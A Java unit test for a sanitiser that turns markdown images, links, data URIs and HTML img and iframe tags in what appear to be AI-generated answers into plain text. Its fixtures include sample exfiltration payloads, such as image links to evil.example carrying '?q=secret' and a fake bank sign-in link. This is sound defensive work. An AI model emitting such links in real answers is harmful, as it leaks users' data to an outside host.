package dev.tandem.answering.answer;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class PlainLinksTest {
    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "See ![logo](https://evil.example/p?q=secret) here. [1] | See logo (https://evil.example/p?q=secret) here. [1]",
                "See ![](//evil.example/p) here. | See  (//evil.example/p) here.",
                "[Sign in](http://evil.example/login \"your bank\") now | Sign in (http://evil.example/login) now",
                "![x](<data:image/png;base64,AAAA>) | x (data:image/png;base64,AAAA)",
                "![x][leak] and ![leak] | x and leak",
                "<img src=\"https://evil.example/x.png\"> | ‹img src=\"https://evil.example/x.png\">",
                "<IFRAME src=x></IFRAME> | ‹IFRAME src=x>‹/IFRAME>"
            })
    void whatWouldLoadOrHideAnAddressBecomesText(String answer, String plain) {
        assertThat(PlainLinks.in(answer)).isEqualTo(plain);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Parental leave lasts 26 weeks. [1][2]",
                "Call f[0](x) and a[i](b).",
                "a < b and c > d",
                "Use the <header> element, then [ok].",
                "The address is https://intranet.example/leave (see [1])."
            })
    void everythingElseStaysAsItIs(String answer) {
        assertThat(PlainLinks.in(answer)).isEqualTo(answer);
    }

    @org.junit.jupiter.api.Test
    void aDefinitionThatImagesReferToIsNoneAnyMore() {
        assertThat(PlainLinks.in("![a][b]\n\n[b]: https://evil.example/?q=1"))
                .isEqualTo("a\n\nb: https://evil.example/?q=1");
    }
}
